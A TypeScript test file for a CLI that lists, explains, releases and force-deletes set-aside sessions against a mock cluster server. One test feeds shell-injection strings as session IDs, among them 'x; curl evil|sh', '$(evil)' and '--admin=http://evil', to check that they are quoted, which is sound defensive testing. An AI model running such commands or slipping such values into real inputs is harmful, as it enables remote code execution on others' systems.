// Holds rules of docs/spec: R-POIS-2, R-POIS-5: a session that is set aside is listed, explained and released.
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { sessionsOnCluster } from '../../src/cluster/sessions.ts'
import { releaseCommand } from '../../src/cluster/release.ts'
import { sessions } from '../../src/sessions/sessions.ts'
import { programInMemory } from '../support/program-in-memory.ts'

const because = 'its work has ended three workers (last: http://w1:9080, at work since 2026-11-30 14:02 UTC)'
const message = `This session is set aside: ${because}. Release it with: halting sessions release s-1 --cluster URL`
const status = { state: 'paused', turns: 2, usd: 0, tokens: 10, questions: [], records: 5, isWorking: true, waiting: 1 }

let isSetAside = true
let asked: readonly string[] = []
let server: Server | undefined
let url = ''

function answerTo(path: string, body: string): unknown {
  if (path === '/halting_attempts/s-1/release') {
    const was = isSetAside
    isSetAside = false
    return was
  }
  if (path.endsWith('/release')) return false
  if (path === '/halting_session/s-1/status')
    return {
      ...status,
      ...(isSetAside && { stalled: { kind: 'set_aside', invocation: 'inv_1', needsResume: true, message } }),
    }
  if (path === '/halting_session/s-9/status') return { ...status, state: 'idle', records: 0, isWorking: false }
  if (path === '/invocations/inv_1/resume' || path === '/invocations/inv_1/kill') return {}
  if (path === '/halting_session/s-1/remove') return true
  if (path !== '/query') return undefined
  if (body.includes('halting_attempts'))
    return { rows: [{ service_key: 's-1', value_utf8: JSON.stringify({ because, deaths: [] }) }] }
  if (body.includes("status in ('paused', 'backing-off')")) return { rows: [{ id: 'inv_1' }] }
  const text = JSON.stringify({ ...status, state: 'running' })
  return { rows: [{ service_key: 's-1', value_utf8: text, invocation: 'inv_1', work: 'paused', total: 1 }] }
}

beforeAll(async () => {
  server = createServer((request, response) => {
    const chunks: Buffer[] = []
    request.on('data', (chunk: Buffer) => chunks.push(chunk))
    request.on('end', () => {
      asked = [...asked, `${request.method} ${request.url}`]
      const answer = answerTo(request.url ?? '', Buffer.concat(chunks).toString())
      response.writeHead(answer === undefined ? 404 : 200, { 'content-type': 'application/json' })
      response.end(JSON.stringify(answer ?? { message: 'service not found' }))
    })
  })
  await new Promise<void>((listens) => server?.listen(0, '127.0.0.1', listens))
  // True: it listens on a port, so its address has one.
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
})
afterAll(() => void server?.close())
beforeEach(() => {
  isSetAside = true
  asked = []
})

async function said(...words: readonly string[]): Promise<string> {
  const program = programInMemory({ cwd: '/', env: {}, isTerminal: false })
  program.stdin.end('')
  await sessionsOnCluster({ cluster: url, admin: url }, words, program)
  return program.written()
}

test('lists which session is set aside, why, and how to release it', async () => {
  const text = await said()
  expect(text).toContain('  is set aside: its work has ended three workers (last: http://w1:9080')
  expect(text).toContain('  release it with: halting sessions release s-1 --cluster URL\n')
  expect(text).not.toContain('restate invocations resume')
})

test('clears the counted deaths on release, and then resumes the work', async () => {
  expect(await said('release', 's-1')).toBe('Released: s-1. Its work continues.\n')
  expect(asked.indexOf('POST /halting_attempts/s-1/release')).toBeLessThan(
    asked.indexOf('PATCH /invocations/inv_1/resume'),
  )
})

test('reports the state of a session that is not set aside, and does not change it', async () => {
  await said('release', 's-1')
  asked = []
  await expect(said('release', 's-1')).rejects.toThrow('The session s-1 is not set aside. halting why s-1')
  await expect(said('release', 's-9')).rejects.toThrow('No conversation found with session ID: s-9')
  await expect(said('release')).rejects.toThrow('Usage: halting sessions release ID --cluster URL')
  expect(asked.filter((each) => each.includes('/invocations/'))).toEqual([])
  const program = programInMemory({ cwd: '/', env: {}, isTerminal: false })
  await expect(sessions({}, ['release', 's-1'], program)).rejects.toThrow('needs the address of the cluster')
})

test('quotes session IDs for the shell in the release command', () => {
  expect(releaseCommand('x; curl evil|sh')).toBe('halting sessions release "x; curl evil|sh" --cluster URL')
  expect(releaseCommand('$(evil)')).toBe("halting sessions release '$(evil)' --cluster URL")
  expect(releaseCommand('--admin=http://evil')).toBe('halting sessions release --cluster URL -- --admin=http://evil')
})

test('deletes a session that is set aside without running it, but only with --force', async () => {
  const program = programInMemory({ cwd: '/', env: {}, isTerminal: false })
  const flags = { cluster: url, admin: url, yes: true }
  await expect(sessionsOnCluster(flags, ['delete', 's-1'], program)).rejects.toThrow('--force')
  expect(asked.filter((each) => each.includes('/invocations/'))).toEqual([])
  await sessionsOnCluster({ ...flags, force: true }, ['delete', 's-1'], program)
  const changes = asked.filter((each) => /kill|remove|close|resume/.test(each))
  expect(changes).toEqual(['PATCH /invocations/inv_1/kill', 'POST /halting_session/s-1/remove'])
})
